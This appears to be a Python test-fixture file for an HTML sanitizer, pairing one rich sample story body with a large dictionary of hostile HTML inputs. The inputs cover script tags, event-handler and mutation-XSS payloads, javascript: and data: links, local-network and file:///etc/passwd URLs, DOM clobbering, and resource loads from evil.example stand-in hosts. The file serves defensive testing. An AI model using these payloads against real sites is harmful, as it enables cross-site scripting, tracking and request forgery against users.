"""Story texts: one with every element of the vocabulary, and what an attacker would send instead of one."""

from __future__ import annotations

RICH_BODY = (
    "<p>The ferry runs <em>again</em>, says "
    '<a href="https://sound.example/a?b=1&amp;c=2">the <strong>operator</strong>'
    '</a>. Write to <a href="mailto:desk@sound.example">the desk</a>.<br>H<sub>2</sub>O, 10<sup>3</sup>,'
    " <del>late</del> and <code>x &lt; 1</code>.</p><h2>Timetable</h2><h3>Morning</h3><h4>First boat</h4>"
    "<table><thead><tr><th>Boat</th><th>Leaves</th></tr></thead><tbody><tr><td>Gull</td><td>07:10</td></tr>"
    "<tr><td>Tern</td><td></td></tr></tbody></table>"
    "<ul><li>Bring a coat<ul><li>and a hat</li></ul></li><li><p>Pay aboard</p></li></ul><ol><li>Walk</li></ol>"
    "<pre><code>for boat in boats:\n    print(boat)</code></pre><blockquote><p>It floats.</p></blockquote>"
    '<figure><img src="https://img.sound.example/gull.jpg" alt="The Gull at sea"><figcaption>The Gull</figcaption>'
    '</figure><hr><img alt="A drawing" title="They were ducks"><audio src="https://cdn.sound.example/1.mp3" '
    'seconds="2520" bytes="38000000"><video src="https://video.example/watch?v=1">'
)

_LOCAL = ("http://127.0.0.1/", "http://localhost:8400/privacy/erase", "http://[::1]/", "http://192.168.0.1/", 
          "//a.org/", "http://printer.local/",
          "http://2130706433/", "http://router/", "file:///etc/passwd")  # fmt: skip
_LINKS = {
    "script link": "javascript:alert(1)", "script link in capitals": "JaVaScRiPt:alert(1)",
    "script link with a tab": "java\tscript:alert(1)", "script link with a reference": "javascript&colon;alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>", "vbscript link": "vbscript:msgbox(1)",
    "blob link": "blob:https://a.org/1", "relative link": "/privacy/erase", "link to a story": "/story/x?token=1",
    "fragment": "#main", "query": "?erase", "empty link": "", "view-source": "view-source:https://a.org/",
    "mail with a body": "mailto:a@b.org?body=x", "telephone": "tel:112", "user and local host": "http://a.org@127.0.0.1/",
    "backslash": "https:\\\\127.0.0.1\\", "own scheme": "intent://x#Intent;end",
}  # fmt: skip
HOSTILE_BODIES: dict[str, str] = {
    **{f"a link, {name}": f'<p><a href="{link}">x</a></p>' for name, link in _LINKS.items()},
    **{f"a link to {link}": f'<p><a href="{link}">x</a></p>' for link in _LOCAL},
    **{f"a picture from {link}": f'<img src="{link}" alt="x">' for link in _LOCAL[:4]},
    "script": "<script>window.hacked=1</script>",
    "script in a paragraph": "<p>a<script>window.hacked=1</script></p>",
    "script in capitals": "<ScRiPt>window.hacked=1</sCrIpT>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "split script": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "onerror": '<img src="https://evil.example/x.png" onerror="window.hacked=1">',
    "onerror without quotes": "<img src=x onerror=window.hacked=1>",
    "onload of svg": "<svg onload=window.hacked=1></svg>",
    "onclick": '<p onclick="window.hacked=1">x</p>',
    "autofocus": '<p><input autofocus onfocus="window.hacked=1"></p>',
    "ontoggle": "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    "slash in place of a space": "<img/src=x/onerror=window.hacked=1>",
    "svg script": "<svg><script>window.hacked=1</script></svg>",
    "svg animate": '<svg><animate attributeName="href" values="javascript:window.hacked=1"/></svg>',
    "svg foreignObject": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:window.hacked=1">x</maction></math>',
    "style": "<style>body{background:url(https://evil.example/s.png)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/s.png)">x</p>',
    "style import": "<style>@import 'https://evil.example/s.css'</style>",
    "link element": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "prefetch": '<link rel="prefetch" href="https://evil.example/p">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><p>x</p>',
    "form": '<form action="/privacy/erase" method="post"><button>Read on</button></form>',
    "form attribute": '<p><button form="erase" formaction="/privacy/erase">x</button></p>',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame with a document": '<iframe srcdoc="&lt;script&gt;window.hacked=1&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "srcset": '<img src="https://a.example/a.png" srcset="https://evil.example/b.png 2x">',
    "picture source": '<picture><source srcset="https://evil.example/b.png"></picture>',
    "video poster": '<video src="https://a.example/a.mp4" poster="https://evil.example/p.png">',
    "autoplay": '<video src="https://evil.example/a.mp4" autoplay>',
    "audio with a source": '<audio controls><source src="https://evil.example/a.mp3"></audio>',
    "track": '<video src="https://a.example/a.mp4"><track src="https://evil.example/t.vtt"></video>',
    "background": '<table background="https://evil.example/b.png"><tbody></tbody></table>',
    "ping": '<p><a href="https://a.example/" ping="https://evil.example/ping">x</a></p>',
    "target": '<p><a href="https://a.example/" target="_top">x</a></p>',
    "clobbering id": '<p id="main">x</p>',
    "clobbering name": '<img name="getElementById" src="https://a.example/a.png">',
    "clobbering form": '<form id="cookie"><input name="nodeType"></form>',
    "a card's hook": '<p data-story="1">x</p>',
    "a class": '<p class="veil">x</p>',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
    "mutation by title": '<title><p alt="</title><img src=x onerror=window.hacked=1>"></title>',
    "mutation by textarea": "<textarea><p></textarea><img src=x onerror=window.hacked=1>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=1&gt;'>",
    "mutation by svg style": "<svg></p><style><a id='</style><img src=1 onerror=window.hacked=1>'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "mutation by select": "<select><template><style><!--</style><a rel='--></style></template></select><img src=x>",
    "comment": "<p>a<!-- x --></p>",
    "comment that ends early": "<!--><img src=x onerror=window.hacked=1>-->",
    "conditional comment": "<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->",
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:window.hacked=1'?>",
    "doctype": "<!DOCTYPE html><p>x</p>",
    "template": "<template><script>window.hacked=1</script></template>",
    "xmp": "<xmp><p></xmp><img src=x onerror=window.hacked=1>",
    "plaintext": "<plaintext><p>x",
    "marquee": "<marquee onstart=window.hacked=1>x</marquee>",
    "portal": '<portal src="https://evil.example/"></portal>',
    "custom element": '<x-card onclick="window.hacked=1">x</x-card>',
    "a quote that ends an attribute": '<img alt="a"onerror="window.hacked=1">',
    "a reference in a name": "<im&#103; src=x>",
    "an attribute that a browser splits": '<p><a href="https://a.org/`onclick=x" `="">x</a></p>',
    "very deep nesting": "<blockquote>" * 7_000 + "</blockquote>" * 7_000,
    "deep emphasis": "<p>" + "<em>" * 5_000 + "x" + "</em>" * 5_000 + "</p>",
    "many open tags": "<p>" * 50_000,
    "a tag without an end": "<p>a</p><img src=",
    "null character": "<scr\x00ipt>window.hacked=1</script>",
    "end of the page": "</div></main></body><p>x</p>",
    "a paragraph too many": "<p>x</p></p><script>window.hacked=1</script>",
}
